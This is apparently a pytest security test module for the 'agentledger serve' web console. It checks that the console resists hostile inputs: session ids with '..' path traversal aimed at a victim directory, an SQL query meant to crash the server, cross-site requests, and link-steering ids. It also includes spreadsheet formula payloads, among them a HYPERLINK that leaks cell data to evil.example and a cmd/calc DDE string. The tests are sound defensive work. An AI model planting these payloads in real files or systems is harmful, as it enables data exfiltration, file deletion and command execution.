"""`agentledger serve` against what a hostile agent records and what another site's page can make a
browser send (the console audit's findings), as a real server driven over plain HTTP (urllib): a
session id that is a path (the evidence bundle's export stayed in its temporary directory?), SQL
given as text to query() (the read-only guard; it aborted the server), a query that never ends (the
time limit), requests from another site (Sec-Fetch-Site), spreadsheet formulas in the CSV download,
and session ids with '/', '..', '?' or '#' in links. One server for the module; the time limit has
its own."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from conftest import REPO, cli_env, free_port, run_cli, stop_process as stop

EXPORT_PREFIX = "019b99aa-ev1l"
# a deadly query of the audit: query() hides enable_logging from the guard; DuckDB then threw from a
# thread of its own and the process aborted (SIGABRT)
ABORTING = ("select * from query('select * from enable_logging(storage=''file'', storage_path=''{out}'')'); "
            "select 1")


def record(s, session_id: str, *, cwd: str = "/w", commands: tuple[str, ...] = ("echo hi",)) -> str:
    """A session under an id the agent chose (the hook records whatever id the agent sends)."""
    from agentledger.producers.recorder import ProducerIdentity, Recorder

    rec = Recorder.from_settings(s, identity=ProducerIdentity.local("claude-code", "2.0.0"))
    with rec.session(agent="claude-code", cwd=cwd, session_id=session_id) as sess:
        for c in commands:
            cid = sess.command_started(["sh", "-c", c], cwd)
            sess.command_finished(cid, exit_code=0, duration_ms=2)
    rec.close()
    return session_id


def wait_until_up(base: str, proc: subprocess.Popen, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"the server exited {proc.returncode}: {proc.stderr.read()[-3000:]}")
        try:
            urllib.request.urlopen(base + "/sessions", timeout=5).read()
            return
        except OSError:
            time.sleep(0.2)
    raise AssertionError(f"no answer from {base} within {timeout} s")


def start(argv: list[str], env: dict, port: int) -> tuple[subprocess.Popen, str]:
    proc = subprocess.Popen(argv, env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    base = f"http://127.0.0.1:{port}"
    try:
        wait_until_up(base, proc)
    except BaseException:
        stop(proc)
        raise
    return proc, base


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *a, **k):
        return None


def fetch(url: str, *, data: bytes | None = None, headers: dict | None = None,
          timeout: float = 60) -> tuple[int, dict, bytes]:
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.build_opener(_NoRedirect).open(req, timeout=timeout) as r:
            return r.status, {k.lower(): v for k, v in r.headers.items()}, r.read()
    except urllib.error.HTTPError as e:
        return e.code, {k.lower(): v for k, v in e.headers.items()}, e.read()


def page(url: str, **kw) -> tuple[int, str]:
    code, _, body = fetch(url, **kw)
    return code, body.decode(errors="replace")


def error_of(body: str) -> str:
    m = re.search(r'id="error">(.*?)</p>', body, re.S)
    return html.unescape(m.group(1)) if m else ""


def sql(case, q: str, path: str = "/sql", **kw) -> tuple[int, str]:
    return page(case["base"] + path + "?" + urllib.parse.urlencode({"q": q}), **kw)


def csrf_of(case) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page(case["base"] + "/whatif")[1]).group(1)


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    from agentledger import api

    d = tmp_path_factory.mktemp("console-security")
    home = d / "home"
    s = api.settings(home=home, env={}, private=True)
    api.simulate(s, 2, 3)
    api.ingest(s)
    benign = api.sessions_page(s, limit=1).rows[0]["session_id"]
    victim = d / "victim"
    (victim / "sub").mkdir(parents=True)
    (victim / "important.txt").write_text("precious\n")
    (victim / "sub" / "notes.md").write_text("precious\n")
    # on disk: up out of the export's temporary directory, then into the victim's
    export_sid = record(s, EXPORT_PREFIX + "/.." * 40 + str(victim) + "/x")
    linked = [record(s, f"019b99cc-spf1/../{benign}"),
              record(s, "019b99cc-spf2/../../sql?q=select+'chain+verified'+as+verdict#x"),
              record(s, "019b99cc-spf3 a&b=c%2F..%2F?#")]
    formula = record(s, "019b99bb-csv0-7000-8000-000000000001", cwd="=1+2",
                     commands=("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0"))
    api.ingest(s)
    (home / "policies").mkdir(exist_ok=True)
    (home / "policies" / "allow-all.toml").write_text(
        'name = "allow-all"\n[network]\ndefault = "allow"\n[approvals]\ndefault = "allow"\n')
    tmp = d / "server-tmp"  # the server's TMPDIR: where the export's temporary directories go
    tmp.mkdir()
    env = cli_env(home, TMPDIR=str(tmp))
    port = free_port()
    proc, base = start([sys.executable, "-m", "agentledger", "serve", "--host", "127.0.0.1", "--port", str(port)],
                       env, port)
    try:
        yield {"s": s, "home": home, "env": env, "base": base, "proc": proc, "victim": victim, "tmp": tmp,
               "export_sid": export_sid, "benign": benign, "linked": linked, "formula": formula, "dir": d}
    finally:
        stop(proc)


def tree(p: Path) -> dict[str, str]:
    return {str(f.relative_to(p)): f.read_text() for f in sorted(p.rglob("*")) if f.is_file()}


def test_exporting_a_session_whose_id_is_a_path_writes_and_removes_only_its_own_directory(case):
    """The id chose the bundle's path (``TMP/agentledger-export-X/<id>.avro``) and the console then
    removed that path's directory: an id with '..' segments wrote the bundle into, and emptied, a
    directory of the agent's choosing."""
    before = tree(case["victim"])
    csrf = csrf_of(case)
    code, headers, body = fetch(f"{case['base']}/sessions/{EXPORT_PREFIX}/export",  # a unique prefix of the id
                                data=urllib.parse.urlencode({"csrf": csrf}).encode(),
                                headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert code == 200, body[:500]
    time.sleep(0.5)  # (the directory is removed after the answer is sent)
    assert case["victim"].is_dir() and tree(case["victim"]) == before
    deadline = time.monotonic() + 10
    while list(case["tmp"].iterdir()) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert list(case["tmp"].iterdir()) == []  # its temporary directory, and nothing else, is gone
    # the download's name holds only [A-Za-z0-9._-]
    name = re.search(r'filename="([^"]*)"', headers["content-disposition"]).group(1)
    assert re.fullmatch(r"[A-Za-z0-9_-][A-Za-z0-9._-]*\.avro", name) and name.startswith(EXPORT_PREFIX), name
    bundle = case["dir"] / "export.avro"
    bundle.write_bytes(body)
    out = run_cli("verify-bundle", str(bundle), "--format", "json", env=case["env"], check=False)
    doc = json.loads(out.stdout)
    assert doc["ok"] is True and json.dumps(case["export_sid"]) in out.stdout, out.stdout[-2000:]


def test_sql_run_as_text_by_query_is_refused_and_the_server_stays_up(case, tmp_path):
    for q in ("select * from query('select * from checkpoint()')", "from query_table('chain_heads')",
              "select (select count(*) from query('select 1'))", "explain select * from query('select 1')",
              ABORTING.format(out=tmp_path / "logs")):
        code, body = sql(case, q)
        assert code == 200 and "refused" in error_of(body) and "query" in error_of(body), (q, error_of(body))
        assert case["proc"].poll() is None, q
    assert not (tmp_path / "logs").exists()
    code, body = sql(case, ABORTING.format(out=tmp_path / "logs"), "/sql.csv")
    assert code == 400 and "refused" in error_of(body)
    assert case["proc"].poll() is None and page(case["base"] + "/sessions")[0] == 200
    # what a query may still read: the catalog, generators
    code, body = sql(case, "select count(*) as n from duckdb_tables() where table_name = 'alert_labels'")
    assert code == 200 and not error_of(body) and "<td class=\"mono\">1</td>" in body


def test_the_whatif_session_query_goes_through_the_same_guard(case, tmp_path):
    form = {"csrf": csrf_of(case), "policy": "allow-all.toml",
            "sessions": ABORTING.format(out=tmp_path / "logs").split(";")[0]}
    code, body = page(case["base"] + "/whatif", data=urllib.parse.urlencode(form).encode())
    assert code == 400 and "query()" in error_of(body), error_of(body) or body[-500:]
    assert case["proc"].poll() is None and not (tmp_path / "logs").exists()
    form["sessions"] = "select session_id from chain_heads"  # an ordinary query still narrows the sessions
    code, body = page(case["base"] + "/whatif", data=urllib.parse.urlencode(form).encode())
    assert code == 200 and 'id="whatif-report"' in body, error_of(body)


def test_an_empty_query_gets_a_message_not_a_server_error(case):
    assert sql(case, "")[0] == 200  # (the empty box)
    for q in ("\x00", " ;", "-- only a comment"):
        code, body = sql(case, q)
        assert code == 200 and "nothing to run" in error_of(body), (q, code, body[-300:])
    for q in ("", "\x00"):
        code, body = sql(case, q, "/sql.csv")
        assert code == 400 and "nothing to run" in error_of(body), (q, code, body[-300:])


def test_sql_and_posts_from_another_site_are_refused(case):
    """A page of another site (another port of localhost is the same site) can make the browser send
    a GET (<img src>) or a form POST: /sql and /sql.csv run SQL, so as POSTs they need the browser
    to say the request is the console's own (Sec-Fetch-Site same-origin, or none: typed, a bookmark)
    or to send no Sec-Fetch-Site at all (not a browser)."""
    for path in ("/sql", "/sql.csv"):
        for site in ("cross-site", "same-site"):
            code, body = sql(case, "select 42", path, headers={"Sec-Fetch-Site": site})
            assert code == 403 and "another site" in body, (path, site, code)
        for headers in ({"Sec-Fetch-Site": "same-origin"}, {"Sec-Fetch-Site": "none"}, {}):
            assert sql(case, "select 42", path, headers=headers)[0] == 200, (path, headers)
    form = urllib.parse.urlencode({"csrf": csrf_of(case)}).encode()
    code, body = page(f"{case['base']}/sessions/{case['benign']}/verify", data=form,
                      headers={"Sec-Fetch-Site": "cross-site"})
    assert code == 403, code
    # a link from elsewhere to a page that runs no user SQL still opens
    assert page(case["base"] + "/sessions", headers={"Sec-Fetch-Site": "cross-site"})[0] == 200


def test_a_query_is_interrupted_after_the_time_limit(case):
    """One query held the console's one lock as long as it ran (every page waited for it)."""
    port = free_port()
    proc, base = start([sys.executable, "-m", "agentledger", "serve", "--port", str(port), "--sql-timeout", "1.5"],
                       case["env"], port)
    try:
        t0 = time.monotonic()
        status, body = page(base + "/sql?" + urllib.parse.urlencode(
            {"q": "select sum(hash(i)) from range(20000000000) t(i)"}), timeout=120)
        took = time.monotonic() - t0
        assert status == 200 and "interrupted after 1.5 s" in error_of(body), error_of(body) or body[-300:]
        assert took < 20, took
        status, _, _ = fetch(base + "/sql.csv?" + urllib.parse.urlencode(
            {"q": "select sum(hash(i)) from range(20000000000) t(i)"}), timeout=120)
        assert status == 400
        t0 = time.monotonic()
        assert page(base + "/sql?q=select+42")[0] == 200 and time.monotonic() - t0 < 10
    finally:
        stop(proc)


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(case):
    q = ("select '=1+2' as \"=cmd()\", '+x' as p, '-x' as m, '@x' as a, chr(9) || 'x' as t, chr(13) || 'x' as r, "
         "'ok' as plain, ' =x' as spaced, -5 as n, -1.5 as f, 7 as i")
    code, headers, body = fetch(case["base"] + "/sql.csv?" + urllib.parse.urlencode({"q": q}))
    assert code == 200 and headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert rows == [["'=cmd()", "p", "m", "a", "t", "r", "plain", "spaced", "n", "f", "i"],
                    ["'=1+2", "'+x", "'-x", "'@x", "'\tx", "'\rx", "ok", " =x", "-5", "-1.5", "7"]]
    # recorded strings, as the audit's download showed them
    q = ("select session_started.cwd as cwd, command_started.argv[3] as command from events where session_id = "
         f"'{case['formula']}' and kind in ('session_started', 'command_started') order by seq")
    rows = list(csv.reader(io.StringIO(fetch(case["base"] + "/sql.csv?" + urllib.parse.urlencode({"q": q}))[2]
                                       .decode(), newline="")))
    cells = [c for r in rows[1:] for c in r if c]
    assert cells == ["'=1+2", "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")", "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_a_session_id_in_a_link_is_percent_encoded_and_opens_its_session(case):
    """An id holding '/', '..', '?' or '#' went into links as is: its row opened another session,
    or a page of the attacker's choosing (/sql?q=... on the console's own origin)."""
    listing = page(case["base"] + "/sessions")[1]
    hrefs = [html.unescape(h) for h in re.findall(r'<a href="([^"]*)" class="sid">', listing)]
    for sid in case["linked"] + [case["export_sid"]]:
        href = "/sessions/" + urllib.parse.quote(sid, safe="")
        assert href in hrefs, (sid, [h for h in hrefs if "019b99" in h])
        code, body = page(case["base"] + href)  # as a browser sends it: one path segment, %2F and all
        assert code == 200, (sid, code, error_of(body))
        assert html.unescape(re.search(r'id="session-id">([^<]*)<', body).group(1)) == sid
        actions = [html.unescape(a) for a in re.findall(r'<form class="inline" method="post" action="([^"]*)"', body)]
        assert actions == [href + "/verify", href + "/export"], actions
    sid = case["linked"][0]
    href = "/sessions/" + urllib.parse.quote(sid, safe="")
    form = urllib.parse.urlencode({"csrf": csrf_of(case)}).encode()
    code, body = page(case["base"] + href + "/verify", data=form)
    assert code == 200 and 'id="verify-result"' in body, error_of(body)
    assert f'href="{html.escape(href)}"' in body  # "back to the session"


def test_alert_and_whatif_links_encode_the_ids_too(case):
    """The alert queue and the what-if report link to sessions as the list does (rendered with the
    console's own templates: a hostile id in an alert or a divergence)."""
    from markupsafe import escape

    from agentledger.console.app import Console

    env = Console(case["s"]).env
    sid = case["linked"][1]
    enc = urllib.parse.quote(sid, safe="")
    alert = {"alert_id": "a/../b?c#d", "session_id": sid, "severity": "high", "triage": "new", "title": "t",
             "rule_id": "r", "mitre": [], "first_seq": 2, "evidence_seqs": [2], "explanation": "x"}
    out = env.get_template("alerts.html").render(rows=[alert], severity=None, triage=None, page="alerts")
    assert f'href="/sessions/{enc}?alert=a%2F..%2Fb%3Fc%23d&at=2#seq-2"' in out
    assert 'action="/alerts/a%2F..%2Fb%3Fc%23d/label"' in out
    report = {"sessions": [{"session_id": sid, "divergences": 1, "requests": 1, "stopped": True, "broke_work": 0,
                            "effects": {}}],
              "divergences": [{"session_id": sid, "seq": 3}]}
    out = env.get_template("whatif.html").render(report=report, files=[], summary=[], page="whatif")
    assert out.count(f'href="/sessions/{enc}') == 2 and f"/sessions/{escape(sid)}" not in out


def test_a_warehouse_whose_views_were_rewritten_is_refused_not_shown(tmp_path):
    """A redefined view shows forged rows to every page that reads it: the console refuses such a
    warehouse as `agentledger sql` does (checked again whenever the file changed)."""
    import duckdb

    from agentledger import api

    home = tmp_path / "home"
    s = api.settings(home=home, env={}, private=True)
    api.simulate(s, 2, 3)
    api.ingest(s)
    port = free_port()
    proc, base = start([sys.executable, "-m", "agentledger", "serve", "--port", str(port)], cli_env(home), port)
    try:
        code, body = page(base + "/sessions")
        assert code == 200 and not error_of(body)
        assert page(base + "/sessions")[0] == 200  # (the unchanged file is not checked again)
        con = duckdb.connect(str(home / "warehouse.duckdb"))
        con.execute("CREATE OR REPLACE VIEW denied_actions AS SELECT * FROM denied_actions WHERE false")
        con.close()
        code, body = page(base + "/sessions")
        assert "refused" in error_of(body) and "denied_actions" in error_of(body) and "agentledger verify" in error_of(body)
    finally:
        stop(proc)
